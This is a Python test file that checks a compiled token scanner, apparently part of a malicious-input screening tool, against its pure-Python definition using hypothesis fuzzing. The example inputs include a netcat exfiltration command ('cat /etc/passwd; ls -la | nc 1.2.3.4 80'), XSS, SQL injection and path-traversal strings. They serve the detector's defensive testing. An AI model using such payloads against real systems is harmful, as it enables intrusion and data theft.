"""The compiled scanner (`screening/scanner.pyx`) is `tokens.python_classes`, for every string.

It must be built: a checkout where `make setup` did not compile it fails here rather than passing on
the Python path, which gives the same classes for ten times the CPU."""

from __future__ import annotations

import random
import sys

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from screening import preprocess, tokens
from screening.corpus import generators


def test_the_scanner_is_built_and_serves_the_lexer() -> None:
    from screening import scanner

    assert isinstance(getattr(tokens.classes, "__self__", None), scanner.Scanner)
    assert scanner.__file__ is not None and not scanner.__file__.endswith((".py", ".pyx"))


def test_the_scanner_refuses_a_pattern_it_does_not_implement() -> None:
    from screening import scanner

    with pytest.raises(ValueError, match="LEXEME"):
        scanner.Scanner(
            lexeme=tokens.LEXEME.pattern.replace("|--", "|---"), apostrophe=tokens._APOSTROPHE.pattern,
            classes=tokens.C, words=tokens.WORDS, punct=tokens.PUNCT, events=tokens.EVENTS,
            danger_tags=tokens.DANGER_TAGS, js_schemes=tokens.JS_SCHEMES, rare_schemes=tokens.RARE_SCHEMES,
            web_schemes=tokens.WEB_SCHEMES, extensions=tokens.EXTENSIONS, header_words=tokens.HEADER_WORDS,
            nosql_ops=tokens.NOSQL_OPS, command_after=tokens._COMMAND_AFTER,
            context_before=tokens._CONTEXT_BEFORE, scheme_colons=tokens._SCHEME_COLONS,
            tag_openers=tokens._TAG_OPENERS, internal_prefixes=tokens._INTERNAL_PREFIXES,
        )


def same(text: str) -> None:
    assert tokens.classes(text) == tokens.python_classes(text), repr(text)


# Every lexeme the tables and rules name, and what sits around them: words of every table (with the
# prefixes `_word` tests), every PUNCT key, numbers and addresses, entities, path climbs; any code point
# (surrogates too, which a `str` may hold); blanks of every kind.
_LEXEMES = sorted({
    *tokens.WORDS, *tokens.EVENTS, *(f"on{e}" for e in tokens.EVENTS), *tokens.DANGER_TAGS, *tokens.JS_SCHEMES,
    *tokens.RARE_SCHEMES, *tokens.WEB_SCHEMES, *tokens.EXTENSIONS, *tokens.HEADER_WORDS, *tokens.NOSQL_OPS,
    *tokens.PUNCT, "__class__", "__x__", "____", "_", "_a", "ro0abc", "aced0005", "pg_x", "dbms_y", "utl_z",
    "sys_a", "xp_b", "sp_c", "a" * 24, "b" * 25, "x" * 40, "0x41", "0x", "0xg", "1.2.3.4", "127.0.0.1",
    "10.1.2.3", "172.16.0.1", "172.32.0.1", "192.168.1.1", "100.100.100.200", "1.2.3.4.5", "1.", "1..2",
    "&lt;", "&#39;", "&#x27;", "&;", "&#;", "../", "..\\", "..../", "/..", "\\...", "O'Brien", "admin'or'1",
    "x'into", "x'intox", "x'in_", "it\u2019s", "²", "½", "\u0663", "Ⅻ", "é", "ß", "İ", "\u00a0", "\u2028",
    "\u3000", "\x1c", "\x85", "\r\n", "\t", "\x00", "\ud800", chr(0xDFFF), "\U0001f600", "SeLeCt", "UNION",
})
_PIECE = st.one_of(
    st.sampled_from(_LEXEMES),
    st.characters(exclude_categories=()),
    st.integers(0xD800, 0xDFFF).map(chr),
    st.sampled_from([" ", "  ", "\n", "'", "/", "<", ".", "$", "%", ":", "://", ";", "|", "&&", "$(", "`"]),
)
_TEXT = st.lists(_PIECE, max_size=60).map("".join)


@settings(max_examples=1500, deadline=None)
@given(_TEXT)
@example("cat /etc/passwd; ls -la | nc 1.2.3.4 80")
@example("<img src=x onerror=alert(1)> javascript:alert(1) http://a.php?id=1' or '1'='1")
@example("written in python and perl /bin/bash ;id\n set-cookie: x $ne $foo %abc %a_b </script")
def test_the_scanner_gives_the_definitions_classes(text: str) -> None:
    same(text)
    same(preprocess.normalize(text))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=2000))
def test_the_scanner_gives_the_definitions_classes_on_any_text(text: str) -> None:
    same(text)


def test_huge_values_and_every_generated_payload_lex_as_defined() -> None:
    rng = random.Random(5)
    samples = [s.text for s in generators.generated(rng, 200)]
    for text in samples:
        same(text)
        same(preprocess.normalize(text))
    same(" ".join(samples) * 20)  # past the scanner's stack buffer
    same("a" * 100_000 + "'or'1" + "\n" * 5000 + "../" * 3000)
    same("")


@pytest.mark.parametrize("start", range(0, sys.maxunicode + 1, 0x10000))
def test_every_code_point_lexes_as_defined(start: int) -> None:
    """Each code point alone and in the places the pattern's alternatives read it: the `re` module's
    categories (`\\w`, `\\d`, `\\s`) and the `str` methods the rules call, against the C predicates."""
    step = 128
    for block in range(start, min(start + 0x10000, sys.maxunicode + 1), step):
        chars = [chr(c) for c in range(block, block + step)]
        same(" ".join(f"a{c}b {c}1 _{c} &{c}; &#{c}; 1{c} x'{c} {c}'x {c}" for c in chars))
        same("".join(chars))
